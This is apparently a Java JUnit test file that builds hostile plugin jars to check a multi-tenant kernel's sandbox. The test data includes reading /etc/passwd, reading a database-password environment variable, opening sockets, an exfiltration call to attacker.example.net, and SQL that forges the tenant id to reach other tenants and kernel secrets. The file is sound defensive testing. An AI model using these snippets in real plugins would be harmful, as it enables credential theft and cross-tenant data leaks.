package io.voicecore.kernel.plugins;

import static io.voicecore.kernel.plugins.TestPlugins.enable;
import static io.voicecore.kernel.plugins.TestPlugins.install;
import static io.voicecore.kernel.plugins.TestPlugins.plugin;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.sql.Connection;
import java.sql.ResultSet;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

import com.fasterxml.jackson.databind.JsonNode;
import io.voicecore.kernel.testing.HttpResult;
import io.voicecore.kernel.testing.TestKernel;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Hostile plugins, each a real jar, against a running kernel that also serves a well-behaved plugin.
 * Each is refused at install with a report naming class, method and API, or contained at run time with
 * a clear error; after each, the well-behaved plugin still answers and nothing was written where it must not be.
 */
class HostilePluginsTest {
    static TestKernel kernel;
    static String tenantA;
    static String tenantB;

    @BeforeAll
    static void start() {
        kernel = TestKernel.start();
        tenantA = kernel.createTenant("hostile-a");
        tenantB = kernel.createTenant("hostile-b");
        assertEquals(201, install(kernel, TestPlugins.wellBehaved("1.0.0").build()).status());
        assertEquals(200, enable(kernel, "hostile-a", "greeter", List.of("storage")).status());
        assertEquals(200, enable(kernel, "hostile-b", "greeter", List.of("storage")).status());
        assertEquals(201, kernel.post("/api/v1/tenants/hostile-a/greeter/visits", kernel.adminToken(), Map.of("who", "alice")).status());
    }

    @AfterAll
    static void stop() {
        kernel.close();
    }

    /** After every hostile case the good plugin still works, for both tenants, with its data intact. */
    @AfterEach
    void wellBehavedPluginStillServes() {
        HttpResult hello = kernel.get("/api/v1/tenants/hostile-a/greeter/hello", kernel.adminToken());
        assertEquals(200, hello.status(), hello.body());
        assertEquals("hello from 1.0.0", hello.json().get("greeting").asText());
        assertEquals(tenantA, hello.json().get("tenant").asText());
        HttpResult visits = kernel.get("/api/v1/tenants/hostile-a/greeter/visits", kernel.adminToken());
        assertEquals("[\"alice\"]", visits.json().get("visits").toString());
        HttpResult other = kernel.get("/api/v1/tenants/hostile-b/greeter/visits", kernel.adminToken());
        assertEquals("[]", other.json().get("visits").toString(), "tenant B never sees tenant A's rows");
        assertEquals(200, kernel.get("/observe/health", null).status());
    }

    static Stream<Arguments> refusedAtInstall() {
        return Stream.of(
                Arguments.of("reads-file-io", "new java.io.FileInputStream(\"/etc/passwd\").read();", "java/io/FileInputStream"),
                Arguments.of("reads-file-nio", "java.nio.file.Files.readString(java.nio.file.Path.of(\"/etc/passwd\"));", "java/nio/file/Files"),
                Arguments.of("opens-socket", "new java.net.Socket(\"127.0.0.1\", 5432).close();", "java/net/Socket"),
                Arguments.of("opens-url", "new java.net.URI(\"http://127.0.0.1/\").toURL().openConnection();", "java/net/URL"),
                Arguments.of("starts-process", "new ProcessBuilder(\"id\").start();", "java/lang/ProcessBuilder"),
                Arguments.of("exits", "System.exit(3);", "java/lang/System.exit"),
                Arguments.of("exits-by-reference", "java.util.function.IntConsumer bye = System::exit; bye.accept(1);", "java/lang/System.exit"),
                Arguments.of("sets-accessible", "java.lang.reflect.Field f = String.class.getDeclaredField(\"value\"); f.setAccessible(true);",
                             "setAccessible"),
                Arguments.of("loads-kernel-class", "Class.forName(\"io.voicecore.kernel.Kernel\");", "java/lang/Class.forName"),
                Arguments.of("defines-class", "java.lang.invoke.MethodHandles.lookup().defineClass(new byte[0]);", "defineClass"),
                Arguments.of("starts-thread", "new Thread(() -> {}).start();", "java/lang/Thread"),
                Arguments.of("thread-pool", "java.util.concurrent.Executors.newFixedThreadPool(2);", "java/util/concurrent/Executors"),
                Arguments.of("reads-environment", "System.getenv(\"VOICECORE_DB_PASSWORD\");", "java/lang/System.getenv"),
                Arguments.of("uses-kernel", "io.voicecore.kernel.http.Json.writeString(1);", "io/voicecore/kernel"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("refusedAtInstall")
    void refusedAtInstallWithAPreciseReport(String id, String hostileStatement, String api) {
        var jar = plugin(id, "1.0.0", List.of(), List.of("GET /x"), "",
                         "setup.route(HttpMethod.GET, \"/x\", (request, context) -> { hostile(); return Response.noContent(); });",
                         "static void hostile() throws Exception { " + hostileStatement + " }").build();
        HttpResult result = install(kernel, jar);
        assertEquals(422, result.status(), result.body());
        assertEquals("application/problem+json", result.contentType());
        JsonNode problem = result.json();
        assertEquals("urn:voicecore:problem:plugin-rejected", problem.get("type").asText());
        boolean named = false;
        for (JsonNode violation : problem.get("violations")) {
            if (violation.get("api").asText().contains(api)) {
                named = true;
                assertEquals(TestPlugins.packageOf(id) + ".Main", violation.get("class").asText().replace('/', '.'), violation.toString());
                assertTrue(violation.get("method").asText().startsWith("hostile"), violation.toString());
                assertFalse(violation.get("reason").asText().isBlank());
            }
        }
        assertTrue(named, "a violation names " + api + ": " + result.body());
        assertEquals(404, kernel.get("/api/v1/plugins/" + id, kernel.adminToken()).status(), "nothing was installed");
    }

    private static void installAndEnable(String id, io.voicecore.kernel.testing.PluginJar jar, List<String> grants) {
        HttpResult installed = install(kernel, jar.build());
        assertEquals(201, installed.status(), installed.body());
        assertEquals(200, enable(kernel, "hostile-a", id, grants).status());
        assertEquals(200, enable(kernel, "hostile-b", id, grants).status());
    }

    @Test
    void infiniteLoopIsStoppedAtItsDeadline() {
        installAndEnable("spinner", plugin("spinner", "1.0.0", List.of(), List.of("GET /spin", "GET /stubborn", "GET /sleep"),
                "limits: {timeoutMillis: 500, concurrency: 4}\n", """
                setup.route(HttpMethod.GET, "/spin", (request, context) -> { long n = 0; while (true) { n++; } });
                setup.route(HttpMethod.GET, "/stubborn", (request, context) -> {
                    long n = 0;
                    while (true) { try { n++; } catch (Throwable ignored) { n--; } }
                });
                setup.route(HttpMethod.GET, "/sleep", (request, context) -> { Thread.sleep(60_000); return Response.noContent(); });
                """, ""), List.of());
        for (String route : List.of("/spin", "/stubborn", "/sleep")) {
            long start = System.nanoTime();
            HttpResult result = kernel.get("/api/v1/tenants/hostile-a/spinner" + route, kernel.adminToken());
            long millis = (System.nanoTime() - start) / 1_000_000;
            assertEquals(504, result.status(), route + ": " + result.body());
            assertEquals("urn:voicecore:problem:plugin-timeout", result.json().get("type").asText());
            assertTrue(millis < 5_000, route + " answered after " + millis + " ms");
        }
    }

    @Test
    void unboundedAllocationIsStoppedByTheQuota() {
        installAndEnable("hoarder", plugin("hoarder", "1.0.0", List.of(), List.of("GET /hoard", "GET /huge"), "", """
                setup.route(HttpMethod.GET, "/hoard", (request, context) -> {
                    List<byte[]> hoard = new ArrayList<>();
                    while (true) { hoard.add(new byte[1 << 20]); }
                });
                setup.route(HttpMethod.GET, "/huge", (request, context) -> {
                    long[] huge = new long[Integer.MAX_VALUE - 16];
                    return Response.ok(Json.of(huge.length));
                });
                """, ""), List.of());
        for (String route : List.of("/hoard", "/huge")) {
            HttpResult result = kernel.get("/api/v1/tenants/hostile-a/hoarder" + route, kernel.adminToken());
            assertEquals(503, result.status(), route + ": " + result.body());
            assertEquals("urn:voicecore:problem:plugin-resource-limit", result.json().get("type").asText());
        }
    }

    @Test
    void throwingFromSetupRefusesTheInstall() {
        HttpResult result = install(kernel, plugin("crashes-on-start", "1.0.0", List.of(), List.of(), "",
                "throw new IllegalStateException(\"cannot start without a database\");", "").build());
        assertEquals(422, result.status(), result.body());
        assertTrue(result.json().get("detail").asText().contains("cannot start without a database"), result.body());
        assertEquals(404, kernel.get("/api/v1/plugins/crashes-on-start", kernel.adminToken()).status());
    }

    @Test
    void repeatedFaultsQuarantineThePluginForThatTenantOnly() {
        installAndEnable("flaky", plugin("flaky", "1.0.0", List.of(), List.of("GET /fail"), "", """
                setup.route(HttpMethod.GET, "/fail", (request, context) -> { throw new IllegalStateException("boom"); });
                """, ""), List.of());
        for (int i = 0; i < 5; i++) {
            HttpResult failed = kernel.get("/api/v1/tenants/hostile-a/flaky/fail", kernel.adminToken());
            assertEquals(500, failed.status(), failed.body());
            assertEquals("urn:voicecore:problem:plugin-failure", failed.json().get("type").asText());
            assertTrue(failed.json().get("detail").asText().contains(failed.header("X-Request-Id")), "the error id is given");
            assertFalse(failed.body().contains("boom") && failed.body().contains("at testplugin"), "no stack trace");
        }
        HttpResult quarantined = kernel.get("/api/v1/tenants/hostile-a/flaky/fail", kernel.adminToken());
        assertEquals(503, quarantined.status(), quarantined.body());
        assertEquals("urn:voicecore:problem:plugin-quarantined", quarantined.json().get("type").asText());
        long retryAfter = Long.parseLong(quarantined.header("Retry-After"));
        assertTrue(retryAfter > 200 && retryAfter <= 300, "Retry-After tells when the quarantine ends: " + retryAfter);
        JsonNode state = kernel.get("/api/v1/tenants/hostile-a/plugins/flaky", kernel.adminToken()).json();
        assertEquals("quarantined", state.get("state").asText(), state.toString());
        assertEquals(500, kernel.get("/api/v1/tenants/hostile-b/flaky/fail", kernel.adminToken()).status(),
                     "tenant B is not quarantined by tenant A's faults");
        HttpResult audit = kernel.get("/api/v1/tenants/hostile-a/audit?action=plugin.quarantine", kernel.adminToken());
        assertEquals(1, audit.json().get("items").size(), audit.body());
    }

    @Test
    void undeclaredHostAndUndeclaredTopicAreRefusedAtRunTime() {
        installAndEnable("sneaky", plugin("sneaky", "1.0.0", List.of("http:egress", "events:publish"),
                List.of("GET /call", "GET /publish"), """
                egress:
                  hosts: [api.example.com]
                events:
                  publishes: [sneaky.allowed]
                """, """
                setup.route(HttpMethod.GET, "/call", (request, context) -> {
                    context.http().send(EgressRequest.get(java.net.URI.create("https://attacker.example.net/steal")));
                    return Response.noContent();
                });
                setup.route(HttpMethod.GET, "/publish", (request, context) -> {
                    context.events().publish("crm.contact.created", Json.object().put("fake", true).build());
                    return Response.noContent();
                });
                """, ""), List.of("http:egress", "events:publish"));
        HttpResult call = kernel.get("/api/v1/tenants/hostile-a/sneaky/call", kernel.adminToken());
        assertEquals(403, call.status(), call.body());
        assertTrue(call.json().get("detail").asText().contains("attacker.example.net"), call.body());
        HttpResult publish = kernel.get("/api/v1/tenants/hostile-a/sneaky/publish", kernel.adminToken());
        assertEquals(403, publish.status(), publish.body());
        assertTrue(publish.json().get("detail").asText().contains("crm.contact.created"), publish.body());
    }

    @Test
    void rawSqlCannotReachOtherTenantsOtherPluginsOrTheKernel() throws Exception {
        installAndEnable("snoop", plugin("snoop", "1.0.0", List.of("storage"),
                List.of("POST /note", "GET /all", "GET /forge", "GET /other-plugin", "GET /kernel"), "", """
                setup.route(HttpMethod.POST, "/note", (request, context) -> {
                    context.storage().update("INSERT INTO notes (tenant_id, body) VALUES (?, ?)", Storage.TENANT, "note of " + context.tenantId());
                    return Response.created(Json.object().build());
                });
                setup.route(HttpMethod.GET, "/all", (request, context) -> {
                    List<Json> bodies = new ArrayList<>();
                    for (Row row : context.storage().query("SELECT body FROM notes")) { bodies.add(Json.of(row.string("body").orElseThrow())); }
                    return Response.ok(Json.array(bodies));
                });
                setup.route(HttpMethod.GET, "/forge", (request, context) -> {
                    String other = request.query("tenant").orElseThrow();
                    context.storage().query("SELECT set_config('voicecore.tenant_id', ?, false)", other);
                    List<Json> bodies = new ArrayList<>();
                    for (Row row : context.storage().query("SELECT body FROM notes")) { bodies.add(Json.of(row.string("body").orElseThrow())); }
                    return Response.ok(Json.array(bodies));
                });
                setup.route(HttpMethod.GET, "/other-plugin", (request, context) ->
                        Response.ok(Json.of(context.storage().query("SELECT who FROM plugin_greeter.visits").size())));
                setup.route(HttpMethod.GET, "/kernel", (request, context) ->
                        Response.ok(Json.of(context.storage().query("SELECT name FROM kernel.plugin_secrets").size())));
                """, "").resource("db/migration/V1__notes.sql", "CREATE TABLE notes (tenant_id uuid NOT NULL, body text NOT NULL);"),
                List.of("storage"));
        assertEquals(201, kernel.post("/api/v1/tenants/hostile-a/snoop/note", kernel.adminToken(), Map.of()).status());
        assertEquals(201, kernel.post("/api/v1/tenants/hostile-b/snoop/note", kernel.adminToken(), Map.of()).status());
        assertEquals("[\"note of " + tenantB + "\"]", kernel.get("/api/v1/tenants/hostile-b/snoop/all", kernel.adminToken()).json().toString());
        HttpResult forged = kernel.get("/api/v1/tenants/hostile-b/snoop/forge?tenant=" + tenantA, kernel.adminToken());
        assertFalse(forged.body().contains(tenantA), "a forged tenant setting reveals nothing: " + forged.body());
        for (String route : List.of("/other-plugin", "/kernel")) {
            HttpResult refused = kernel.get("/api/v1/tenants/hostile-b/snoop" + route, kernel.adminToken());
            assertTrue(refused.status() >= 400, route + ": " + refused.body());
            assertFalse(refused.body().contains("alice"), refused.body());
        }
        try (Connection owner = kernel.ownerConnection();
             ResultSet rs = owner.createStatement().executeQuery("SELECT count(*) FROM plugin_snoop.notes")) {
            rs.next();
            assertEquals(2, rs.getInt(1), "exactly the two legitimate notes were written");
        }
    }

    @Test
    void sdkClassesDoNotOpenTheKernelClassPath() {
        // Class#getResource* passes the verifier (plugins read their own resources with it), so the runtime must
        // keep it from searching the class path of the SDK's, the kernel's or the JDK's class loader.
        installAndEnable("peeker", plugin("peeker", "1.0.0", List.of(), List.of("GET /peek"), "", """
                setup.route(HttpMethod.GET, "/peek", (request, context) -> {
                    java.net.URL spec = Plugin.class.getResource("/openapi.yaml");
                    java.io.InputStream schema = Response.class.getResourceAsStream("/db/migration/V1__kernel_foundation.sql");
                    java.util.function.Function<String, java.net.URL> lookup = Request.class::getResource;
                    java.io.InputStream own = Main.class.getResourceAsStream("/peek.txt");
                    return Response.ok(Json.object().put("spec", String.valueOf(spec)).put("schema", schema != null)
                            .put("byReference", String.valueOf(lookup.apply("/openapi.yaml")))
                            .put("own", new String(own.readAllBytes()).strip()).build());
                });
                """, "").resource("peek.txt", "mine"), List.of());
        assertTrue(HostilePluginsTest.class.getResource("/openapi.yaml") != null, "the resource is on the kernel's class path");
        HttpResult peek = kernel.get("/api/v1/tenants/hostile-a/peeker/peek", kernel.adminToken());
        assertEquals(200, peek.status(), peek.body());
        assertEquals("null", peek.json().get("spec").asText(), peek.body());
        assertFalse(peek.json().get("schema").asBoolean(), peek.body());
        assertEquals("null", peek.json().get("byReference").asText(), peek.body());
        assertEquals("mine", peek.json().get("own").asText(), "its own resources stay readable");
    }

    @Test
    void secretsOfOneTenantAreInvisibleToAnother() {
        installAndEnable("keeper", plugin("keeper", "1.0.0", List.of("secrets"), List.of("POST /secret", "GET /secret"), "", """
                setup.route(HttpMethod.POST, "/secret", (request, context) -> {
                    context.secrets().put("api-key", request.json().get("value").asString());
                    return Response.noContent();
                });
                setup.route(HttpMethod.GET, "/secret", (request, context) ->
                        Response.ok(Json.object().put("value", context.secrets().get("api-key").orElse(null)).build()));
                """, ""), List.of("secrets"));
        assertEquals(204, kernel.post("/api/v1/tenants/hostile-a/keeper/secret", kernel.adminToken(), Map.of("value", "sk-tenant-a")).status());
        assertEquals("sk-tenant-a", kernel.get("/api/v1/tenants/hostile-a/keeper/secret", kernel.adminToken()).json().get("value").asText());
        HttpResult other = kernel.get("/api/v1/tenants/hostile-b/keeper/secret", kernel.adminToken());
        assertTrue(other.json().get("value").isNull(), other.body());
        HttpResult list = kernel.get("/api/v1/tenants/hostile-a/plugins/keeper", kernel.adminToken());
        assertFalse(list.body().contains("sk-tenant-a"), "no API returns a secret");
    }
}
